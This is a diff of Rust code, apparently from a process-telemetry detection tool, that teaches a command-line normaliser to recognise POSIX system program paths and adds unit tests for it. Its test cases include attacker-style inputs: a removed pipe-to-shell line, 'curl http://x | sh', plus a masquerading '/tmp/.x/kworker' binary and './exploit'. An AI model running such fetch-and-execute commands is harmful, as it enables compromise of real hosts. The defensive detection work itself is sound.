@@ -10,7 +10,10 @@
 //! path learns who wrote the text, and then finds every `svchost.exe -k netsvcs` a Sysmon
 //! stream logs as malicious as an Atomic Red Team test. Where a program was started from
 //! still matters when it is a user's folder: that is a signature (`user-folder-execution`),
-//! read on the text as written.
+//! read on the text as written. Linux telemetry is alike: cron and `system()` start
+//! `/bin/sh -c …`, a service manager `/usr/sbin/sshd -D`, and GTFOBins' `/bin/sh` made the
+//! path itself evidence; programs in the system's own directories are read by name, and a
+//! program run from anywhere else (`/tmp/x`, `./x`) keeps its path.
 
 use std::borrow::Cow;
 
@@ -96,9 +99,38 @@ fn image_at(line: &str) -> Option<(usize, usize, &str, &str)> {
     Some((lead, at + taken, token, name))
 }
 
-/// The program's name when `token` is written as an image: it ends in `.exe`, or it is an
-/// absolute Windows path (`C:\…`, `\\host\…`, `%windir%\…`) to a file without extension.
+/// Directories a POSIX system's own programs run from: `/bin/sh -c …` is how cron and
+/// `system()` start a shell, `/usr/sbin/sshd -D` how a service manager starts a daemon.
+/// Programs in them are read by name; a program run from anywhere else (`/tmp/x`,
+/// `./x`, `/opt/x`) keeps its path.
+const POSIX_BIN: [&str; 6] = [
+    "/bin/",
+    "/sbin/",
+    "/usr/bin/",
+    "/usr/sbin/",
+    "/usr/local/bin/",
+    "/usr/local/sbin/",
+];
+/// Library directories, where helpers live in subdirectories (`/usr/lib/apt/methods/http`).
+const POSIX_LIB: [&str; 5] = [
+    "/lib/",
+    "/lib64/",
+    "/usr/lib/",
+    "/usr/lib64/",
+    "/usr/libexec/",
+];
+
+/// The program's name when `token` is written as an image: it ends in `.exe`, it is an
+/// absolute Windows path (`C:\…`, `\\host\…`, `%windir%\…`) to a file without extension,
+/// or a POSIX system program's path.
 fn bare_name(token: &str) -> Option<&str> {
+    if let Some(rest) = POSIX_BIN.iter().find_map(|d| token.strip_prefix(d)) {
+        return (!rest.is_empty() && !rest.contains('/')).then_some(rest);
+    }
+    if POSIX_LIB.iter().any(|d| token.starts_with(d)) {
+        let file = token.rsplit('/').next().unwrap_or("");
+        return (!file.is_empty()).then_some(file);
+    }
     let file = token.rsplit(['\\', '/']).next().unwrap_or(token);
     let ext = file
         .len()
@@ -150,6 +182,13 @@ mod tests {
             ("EXCEL.EXE", "EXCEL"),
             (r"%windir%\system32\rundll32 x.dll,y", "rundll32 x.dll,y"),
             (r"\\host\share\tool.exe /run", "tool /run"),
+            (
+                "/bin/sh -c run-parts --report /etc/cron.daily",
+                "sh -c run-parts --report /etc/cron.daily",
+            ),
+            ("/usr/sbin/sshd -D", "sshd -D"),
+            ("/usr/lib/apt/methods/http", "http"),
+            ("/lib/systemd/systemd-journald", "systemd-journald"),
         ] {
             assert_eq!(launch_names(text), want, "{text}");
         }
@@ -168,7 +207,12 @@ mod tests {
         for text in [
             "whoami /all",
             "ls -la /tmp",
-            "/usr/bin/curl http://x | sh",
+            "/tmp/.x/kworker -c 1",
+            "./exploit",
+            "/opt/app/bin/run",
+            "/usr/bin/",
+            "/usr/bin/x/y",
+            "/usr/lib/",
             r"C:\AtomicRedTeam\atomics\T1218\src\T1218.txt",
             r#""C:\Program Files\x.exe"#,
             ".exe",
